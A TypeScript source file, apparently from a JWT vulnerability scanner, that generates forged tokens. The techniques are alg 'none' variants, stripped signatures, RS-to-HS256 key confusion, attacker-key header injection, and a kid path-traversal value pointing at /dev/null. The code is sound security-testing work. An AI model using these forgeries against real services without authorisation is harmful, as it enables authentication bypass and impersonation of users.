import { createHmac, generateKeyPairSync, type KeyObject, sign } from "node:crypto";
import { base64UrlEncode, type DecodedJwt, type JsonObject } from "./token.js";

/** The families of forgery; each accepted family is one finding. */
export type ForgeryTechnique =
  | "alg-none"
  | "signature-stripped"
  | "key-confusion"
  | "jwk-injection"
  | "jku-injection"
  | "x5u-injection"
  | "kid-injection";

/** One forged token and how it was made. */
export interface Forgery {
  readonly technique: ForgeryTechnique;
  /** What varies inside the family, e.g. `alg "nOnE", empty signature`. */
  readonly variant: string;
  readonly header: JsonObject;
  readonly token: string;
}

/** The spellings of `none` that case-sensitive deny lists miss (RFC 8725 3.1). */
export const NONE_SPELLINGS = ["none", "None", "NONE", "nOnE"] as const;

/**
 * Unsigned tokens: `alg` set to each spelling of `none`, the payload unchanged, with the
 * signature stripped (empty third part) and with the original signature left in place.
 *
 * @example
 * ```ts
 * algNoneForgeries(jwt).length; // 8
 * ```
 */
export function algNoneForgeries(jwt: DecodedJwt): Forgery[] {
  const out: Forgery[] = [];
  for (const alg of NONE_SPELLINGS) {
    const header = { ...jwt.header, alg };
    const input = `${base64UrlEncode(JSON.stringify(header))}.${jwt.rawPayload}`;
    out.push({
      technique: "alg-none",
      variant: `alg "${alg}", empty signature`,
      header,
      token: `${input}.`,
    });
    out.push({
      technique: "alg-none",
      variant: `alg "${alg}", original signature kept`,
      header,
      token: `${input}.${jwt.rawSignature}`,
    });
  }
  return out;
}

/**
 * The original header and payload with the signature removed: accepted only by a server that
 * decodes without verifying.
 *
 * @example
 * ```ts
 * strippedSignatureForgery(jwt).token; // "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0."
 * ```
 */
export function strippedSignatureForgery(jwt: DecodedJwt): Forgery {
  return {
    technique: "signature-stripped",
    variant: "original header, empty signature",
    header: jwt.header,
    token: `${jwt.signingInput}.`,
  };
}

/**
 * The original token with its signature altered (first byte flipped): the control of the
 * forgeries. A server that accepts it verifies no signature at all.
 *
 * @example
 * ```ts
 * const control = tamperedSignature(jwt); // same header and payload, signature with its first byte flipped
 * ```
 */
export function tamperedSignature(jwt: DecodedJwt): string {
  const signature = Buffer.from(jwt.rawSignature, "base64url");
  if (signature.length === 0) return `${jwt.signingInput}.${base64UrlEncode("rampart")}`;
  signature[0] = (signature[0] as number) ^ 0xff;
  return `${jwt.signingInput}.${base64UrlEncode(signature)}`;
}

/**
 * RS/ES -> HS confusion (RFC 8725 2.1): HS256 tokens whose HMAC key is the text of the server's
 * public key, in each PEM spelling given.
 *
 * @example
 * ```ts
 * keyConfusionForgeries(jwt, { source: "JWKS", pems: [pem, pem.trimEnd()] }).length; // 2
 * ```
 */
export function keyConfusionForgeries(
  jwt: DecodedJwt,
  key: { readonly source: string; readonly kid?: string; readonly pems: readonly string[] },
): Forgery[] {
  return key.pems.map((pem, i) => {
    const header: JsonObject = {
      ...jwt.header,
      alg: "HS256",
      ...(key.kid ? { kid: key.kid } : {}),
    };
    const input = `${base64UrlEncode(JSON.stringify(header))}.${jwt.rawPayload}`;
    const signature = createHmac("sha256", pem).update(input).digest();
    const kind = pem.includes("BEGIN RSA PUBLIC KEY")
      ? "PKCS#1"
      : pem.includes("CERTIFICATE")
        ? "certificate"
        : "SPKI";
    return {
      technique: "key-confusion",
      variant: `HS256 keyed with the public key (${key.source}, ${kind} PEM ${pem.endsWith("\n") ? "with" : "without"} final newline, #${i + 1})`,
      header,
      token: `${input}.${base64UrlEncode(signature)}`,
    };
  });
}

/** A key pair of the scan's own making, for the header-injection forgeries. */
export interface AttackerKey {
  readonly privateKey: KeyObject;
  /** The public JWK, with `kid`, `alg` and `use`. */
  readonly jwk: JsonObject;
  readonly kid: string;
}

/**
 * Generates the attacker's key: EC P-256 (ES256), fast to make and accepted wherever a `jwk`
 * or `jku` header is trusted.
 *
 * @example
 * ```ts
 * const key = createAttackerKey();
 * key.jwk.kty; // "EC"
 * ```
 */
export function createAttackerKey(kid = "rampart-scan"): AttackerKey {
  const { privateKey, publicKey } = generateKeyPairSync("ec", { namedCurve: "P-256" });
  const jwk = {
    ...publicKey.export({ format: "jwk" }),
    kid,
    alg: "ES256",
    use: "sig",
  } as JsonObject;
  return { privateKey, jwk, kid };
}

/**
 * Signs the original payload with the attacker's key under the given header (ES256).
 *
 * @example
 * ```ts
 * signWithAttackerKey(jwt, key, "jwk-injection", "embedded jwk", { jwk: key.jwk }).header.alg; // "ES256"
 * ```
 */
export function signWithAttackerKey(
  jwt: DecodedJwt,
  key: AttackerKey,
  technique: ForgeryTechnique,
  variant: string,
  extra: JsonObject,
): Forgery {
  const header: JsonObject = { typ: jwt.header.typ ?? "JWT", ...extra, alg: "ES256" };
  const input = `${base64UrlEncode(JSON.stringify(header))}.${jwt.rawPayload}`;
  const signature = sign("sha256", Buffer.from(input), {
    key: key.privateKey,
    dsaEncoding: "ieee-p1363",
  });
  return { technique, variant, header, token: `${input}.${base64UrlEncode(signature)}` };
}

/**
 * `kid` path traversal: HS256 signed with an empty key and a `kid` naming /dev/null, accepted by
 * servers that read the key from the file the token names (RFC 8725 3.10).
 *
 * @example
 * ```ts
 * kidTraversalForgery(jwt).header.kid; // "../../../../../../../../dev/null"
 * ```
 */
export function kidTraversalForgery(jwt: DecodedJwt): Forgery {
  const header: JsonObject = {
    ...jwt.header,
    alg: "HS256",
    kid: "../../../../../../../../dev/null",
  };
  const input = `${base64UrlEncode(JSON.stringify(header))}.${jwt.rawPayload}`;
  // The contents of /dev/null: an empty HMAC key.
  const signature = createHmac("sha256", "").update(input).digest();
  return {
    technique: "kid-injection",
    variant: "kid names /dev/null, HS256 with an empty key",
    header,
    token: `${input}.${base64UrlEncode(signature)}`,
  };
}
